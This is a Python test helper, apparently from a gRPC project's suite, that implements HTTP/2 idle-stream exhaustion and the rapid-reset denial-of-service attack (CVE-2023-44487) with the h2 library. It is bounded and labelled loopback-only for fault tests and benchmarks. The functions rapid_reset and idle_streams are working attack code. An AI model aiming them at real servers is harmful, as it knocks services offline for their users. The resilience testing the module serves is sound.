"""A stranger on HTTP/2: idle streams and rapid reset (CVE-2023-44487) against a gRPC server,
with the ``h2`` library (imported when used). Loopback only; every loop bounded in count and
time. Used by the fault table's stream rows (``tests/test_faults.py``) and
``benchmarks/stranger_streams.py``.
"""

from __future__ import annotations

import contextlib
import socket
import threading
import time
from collections.abc import Iterator
from typing import Any

__all__ = ["connect", "idle_streams", "open_streams", "rapid_reset"]


def connect(host: str, port: int) -> tuple[socket.socket, Any]:
    """A raw HTTP/2 connection (its preface and SETTINGS sent): the socket and h2's state."""
    import h2.config
    import h2.connection

    sock = socket.create_connection((host, port), timeout=5)
    conn = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True))
    conn.initiate_connection()
    sock.sendall(conn.data_to_send())
    return sock, conn


def _headers(
    host: str, port: int, path: str, extra: tuple[tuple[str, str], ...] = ()
) -> list[tuple[str, str]]:
    return [
        (":method", "POST"),
        (":scheme", "http"),
        (":authority", f"{host}:{port}"),
        (":path", path),
        ("content-type", "application/grpc"),
        ("te", "trailers"),
        *extra,
    ]


def open_streams(
    host: str,
    port: int,
    path: str,
    streams: int,
    seconds: float,
    extra: tuple[tuple[str, str], ...] = (),
) -> dict[str, int]:
    """Open ``streams`` streams of ``path`` at once on one connection (headers with ``extra``
    metadata, no message, no end; sent before the server's SETTINGS are read, as a stranger
    who ignores them would), then read the server's frames for ``seconds``: the stream bound
    its SETTINGS announce (-1: none), how many streams it refused (RST_STREAM
    REFUSED_STREAM or ENHANCE_YOUR_CALM), how many it ended with each grpc-status (the idle
    bound's CANCELLED), and how many stay open: ``{"announced": 16, "refused": 24,
    "status 1": 16, "open": 0}`` (grpc-status 1 is CANCELLED)."""
    import h2.errors
    import h2.events
    import h2.settings

    sock, conn = connect(host, port)
    out = {"announced": -1, "refused": 0, "open": streams}
    ended: dict[int, str] = {}
    refusals = (h2.errors.ErrorCodes.REFUSED_STREAM, h2.errors.ErrorCodes.ENHANCE_YOUR_CALM)
    try:
        for _ in range(streams):
            conn.send_headers(
                conn.get_next_available_stream_id(), _headers(host, port, path, extra)
            )
        sock.sendall(conn.data_to_send())
        deadline = time.monotonic() + seconds
        while (left := deadline - time.monotonic()) > 0 and len(ended) < streams:
            sock.settimeout(left)
            try:
                data = sock.recv(65536)
            except OSError:
                break
            if not data:
                break
            for event in conn.receive_data(data):
                if isinstance(event, h2.events.RemoteSettingsChanged):
                    bound = event.changed_settings.get(
                        h2.settings.SettingCodes.MAX_CONCURRENT_STREAMS
                    )
                    if bound is not None:
                        out["announced"] = bound.new_value
                elif isinstance(event, h2.events.StreamReset):
                    refused = event.error_code in refusals
                    ended.setdefault(event.stream_id, "refused" if refused else "reset")
                elif isinstance(event, h2.events.ResponseReceived | h2.events.TrailersReceived):
                    status = dict(event.headers).get(b"grpc-status")
                    if status is not None:
                        ended.setdefault(event.stream_id, f"status {status.decode()}")
            with contextlib.suppress(OSError):
                sock.sendall(conn.data_to_send())
    finally:
        sock.close()
    for how in ended.values():
        out[how] = out.get(how, 0) + 1
    out["open"] = streams - len(ended)
    return out


@contextlib.contextmanager
def idle_streams(
    host: str, port: int, path: str, streams: int, connections: int
) -> Iterator[dict[str, int]]:
    """Hold ``streams`` streams of ``path`` open (headers sent, no message, no end) over
    ``connections`` connections until the block ends."""
    held: list[socket.socket] = []
    opened = 0
    try:
        per = -(-streams // connections)
        for _ in range(connections):
            sock, conn = connect(host, port)
            held.append(sock)
            for _ in range(min(per, streams - opened)):
                conn.send_headers(conn.get_next_available_stream_id(), _headers(host, port, path))
                opened += 1
            sock.sendall(conn.data_to_send())
        yield {"idle_streams": opened, "connections": len(held)}
    finally:
        for sock in held:
            sock.close()


@contextlib.contextmanager
def rapid_reset(
    host: str, port: int, path: str, limit: int, seconds: float
) -> Iterator[dict[str, int]]:
    """Open streams of ``path`` and reset each at once, on one connection from a thread, at
    most ``limit`` of them and for at most ``seconds``, until the block ends."""
    import h2.errors

    counts = {"reset_streams": 0}
    stop = threading.Event()

    def attack() -> None:
        deadline = time.monotonic() + seconds
        sock, conn = connect(host, port)
        sock.settimeout(2)
        try:
            while not stop.is_set() and counts["reset_streams"] < limit:
                if time.monotonic() > deadline:
                    break
                for _ in range(100):
                    stream = conn.get_next_available_stream_id()
                    conn.send_headers(stream, _headers(host, port, path))
                    conn.reset_stream(stream, h2.errors.ErrorCodes.CANCEL)
                    counts["reset_streams"] += 1
                try:
                    sock.sendall(conn.data_to_send())
                    sock.setblocking(False)
                    with contextlib.suppress(BlockingIOError):
                        while sock.recv(65536):
                            pass  # the server's frames: read and dropped
                    sock.settimeout(2)
                except OSError:
                    break  # the server closed the connection: the attack is over
        finally:
            sock.close()

    thread = threading.Thread(target=attack, daemon=True)
    thread.start()
    try:
        yield counts
    finally:
        stop.set()
        thread.join(10)
